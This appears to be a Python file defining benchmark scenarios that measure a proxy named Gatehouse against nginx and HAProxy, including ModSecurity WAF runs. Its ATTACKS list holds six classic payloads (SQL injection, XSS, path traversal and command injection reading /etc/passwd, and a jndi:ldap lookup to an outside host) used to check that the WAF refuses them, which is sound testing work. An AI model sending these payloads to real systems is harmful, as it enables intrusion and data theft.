"""The scenarios: one row each. A row says what the clients send, what the proxies are told beyond the common
configuration, and which goal the result is held against."""

import json
from dataclasses import dataclass, field

HOST = "bench.example"  # a name, not an address: CRS 920350 would make each request to an address suspicious

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.5",
    "Accept-Encoding": "gzip, deflate, br",
    "Referer": f"http://{HOST}/shop/shoes",
    "Cookie": "sid=7f3a9c2e51b84d06a1f2; theme=dark; lang=en; cart=3-17-204",
    "Connection": "keep-alive",
    "Upgrade-Insecure-Requests": "1",
}
BROWSER_PATH = "/shop/item?id=42&lang=en&page=3&sort=price&q=blue+running+shoes"
FORM = "name=Ada+Lovelace&street=12+St+James+Square&city=London&country=GB&comment=Please+ring+twice&newsletter=1"
DOCUMENT = json.dumps({"order": 4711, "items": [{"sku": "A-17", "count": 2}, {"sku": "B-3", "count": 1}],
                       "customer": {"name": "Ada Lovelace", "city": "London"}, "gift": False})
ATTACKS = [
    "/item?id=1%27%20or%20%271%27%3D%271",
    "/item?id=1%20union%20select%20user%2Cpassword%20from%20users",
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/file?name=..%2F..%2F..%2Fetc%2Fpasswd",
    "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd",
    "/item?id=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
]


@dataclass(frozen=True)
class Request:
    path: str
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=lambda: BROWSER)
    body: str = ""


@dataclass(frozen=True)
class Scenario:
    name: str
    what: str
    kind: str = "http"  # http: wrk; handshake: tls_client.py; idle: connections held open; half_load: wrk at half the rate;
    #                     attacked: the clean clients' latency while one request in ten is an attack;
    #                     crowd: wrk among connections that are held open, of clients that don't read and of origins that dribble
    paths: tuple[str, ...] = ("/",)
    requests: tuple[Request, ...] = ()  # instead of `paths`, `method`, `headers` and `body`: these in turn
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=dict)
    body: str = ""
    body_bytes: int = 0  # instead of `body`: that many letters
    connections: int = 32
    status: int = 200
    tls: str = ""  # "ecdsa" or "rsa": clients connect with TLS 1.3
    routes: int = 0
    access_log: bool = False
    waf: bool = False
    resume: bool = False
    goal: float | None = None  # highest ratio to the better of nginx and HAProxy, or to `base`
    base: str = ""  # the scenario that Gatehouse is compared with itself in
    proxies: tuple[str, ...] = ("gatehouse", "nginx", "haproxy")


WAF = ("gatehouse", "nginx")  # HAProxy has no ModSecurity inside
FORM_FIELDS = {**BROWSER, "Content-Type": "application/x-www-form-urlencoded"}
JSON_FIELDS = {**BROWSER, "Content-Type": "application/json"}



def _upload(name: str, size: int) -> Request:
    """A form with a file in it, as a browser sends it."""
    boundary = "----geckoformboundary7d1c0a9e52"
    text = "".join(f"{number:05}  an entry of the journal of that day, in plain words\n" for number in range(size // 60 + 1))[:size]
    parts = [('name="title"', "", "Journal of November"), ('name="folder"', "", "documents"),
             (f'name="file"; filename="{name}"', "Content-Type: text/plain\r\n", text)]
    body = "".join(f"--{boundary}\r\nContent-Disposition: form-data; {what}\r\n{kind}\r\n{value}\r\n" for what, kind, value in parts)
    return Request("/post", "POST", {**BROWSER, "Content-Type": f"multipart/form-data; boundary={boundary}"}, f"{body}--{boundary}--\r\n")


# What a shop with an API sees: pages and what belongs to them, searches, forms, calls, now and then an upload.
MIXED = (
    Request("/"), Request("/assets/app.8f14e45f.js"), Request("/assets/site.css?v=20241103"), Request(BROWSER_PATH),
    Request("/search?q=winter+jacket&size=M&color=dark+green&page=1"), Request("/api/v1/products/4711?fields=name,price,stock"),
    Request("/account/orders?from=2024-01-01&to=2024-12-31&state=open"), Request("/post", "POST", FORM_FIELDS, FORM),
    Request("/post", "POST", JSON_FIELDS, DOCUMENT), Request("/images/shoes/a-17.webp?w=640&q=80"),
    Request("/api/v1/cart", headers={**JSON_FIELDS, "Accept": "application/json", "X-Requested-With": "XMLHttpRequest"}),
    Request("/post", "POST", FORM_FIELDS, "email=ada%40example.org&subject=Delivery&text=When+does+my+parcel+arrive%3F+It+was+due+on+Monday."),
    Request("/blog/2024/11/how-to-choose-running-shoes"), _upload("journal.txt", 20000),
)

SCENARIOS = [
    Scenario("get_small", "keep-alive GET, 34 bytes back", goal=0.80),
    Scenario("get_browser", "keep-alive GET with a browser's 9 fields, 5 arguments, 4 cookies", paths=(BROWSER_PATH,),
             headers=BROWSER, goal=0.80),
    Scenario("get_10k", "response of 10 KB", paths=("/10k",), goal=0.90),
    Scenario("get_100k", "response of 100 KB", paths=("/100k",), goal=0.90),
    Scenario("get_10m", "response of 10 MB", paths=("/10m",), connections=4, goal=0.90),
    Scenario("post_1k", "request body of 1 KB", method="POST", paths=("/post",), body_bytes=1024, goal=0.90),
    Scenario("post_100k", "request body of 100 KB", method="POST", paths=("/post",), body_bytes=102400, goal=0.90),
    Scenario("post_10m", "request body of 10 MB", method="POST", paths=("/post",), body_bytes=10 << 20, connections=4,
             goal=0.90),
    Scenario("new_connection", "a new client connection for each GET", headers={"Connection": "close"}, goal=0.95),
    Scenario("tls_get", "keep-alive GET over TLS 1.3", tls="ecdsa", goal=0.85),
    Scenario("tls_handshake_full", "TLS 1.3, ECDSA P-256, full handshake and a GET for each connection",
             kind="handshake", tls="ecdsa", goal=0.95),
    Scenario("tls_handshake_rsa", "the same with RSA 2048", kind="handshake", tls="rsa", goal=0.95),
    Scenario("tls_handshake_resumed", "TLS 1.3, resumed with a ticket, and a GET for each connection",
             kind="handshake", tls="ecdsa", resume=True, goal=0.95),
    Scenario("routes_1", "GETs to one location, as the base of the next", paths=("/r00000/x",), routes=1),
    Scenario("routes_10000", "GETs spread over 10,000 locations; the ratio is to routes_1",
             paths=tuple(f"/r{i:05}/x" for i in range(0, 10000, 7)), routes=10000, base="routes_1", goal=1.05),
    Scenario("half_load", "latency of small GETs at half the slowest proxy's rate", kind="half_load", connections=64,
             goal=1.0),
    Scenario("idle_plain", "memory of one of 9,700 idle keep-alive connections", kind="idle", connections=9700, goal=1.0),
    Scenario("idle_tls", "memory of one of 9,700 idle keep-alive TLS connections", kind="idle", connections=9700, tls="ecdsa",
             goal=1.0),
    Scenario("crowd", "small GETs among 10,000 connections: 4,000 idle, 3,000 clients that don't read 10 MB, 3,000 answers that "
             "the origin dribbles", kind="crowd", proxies=("gatehouse", "nginx")),  # HAProxy would need more descriptors than a process may have here
    Scenario("access_log_off", "get_browser again, as the base of the next", paths=(BROWSER_PATH,), headers=BROWSER),
    Scenario("access_log_on", "get_browser with an access log", paths=(BROWSER_PATH,), headers=BROWSER, access_log=True),
    Scenario("waf_off", "get_browser, as the base of the next", paths=(BROWSER_PATH,), headers=BROWSER, proxies=WAF),
    Scenario("waf_get", "get_browser through ModSecurity and the CRS", paths=(BROWSER_PATH,), headers=BROWSER, waf=True,
             proxies=WAF, goal=0.01),
    Scenario("waf_form", "POST of a form through the CRS", method="POST", paths=("/post",), headers=FORM_FIELDS,
             body=FORM, waf=True, proxies=WAF),
    Scenario("waf_json", "POST of JSON through the CRS", method="POST", paths=("/post",), headers=JSON_FIELDS,
             body=DOCUMENT, waf=True, proxies=WAF),
    Scenario("waf_html", "10 KB of HTML, whose body is inspected too", paths=("/html",), headers=BROWSER, waf=True, proxies=WAF),
    Scenario("waf_mixed", "a shop's traffic: pages, assets, searches, forms, JSON, an upload of 20 KB in 14", requests=MIXED, waf=True,
             proxies=WAF, goal=0.02),
    Scenario("waf_attacks", "six kinds of attack, each refused with 403", paths=tuple(ATTACKS), headers=BROWSER, waf=True,
             status=403, proxies=WAF, goal=0.33),
    Scenario("waf_attacked", "clean GETs while one request in ten is an attack; the ratio is of their p99 to that without attacks",
             kind="attacked", paths=(BROWSER_PATH,), headers=BROWSER, waf=True, proxies=WAF, goal=2.0),
]
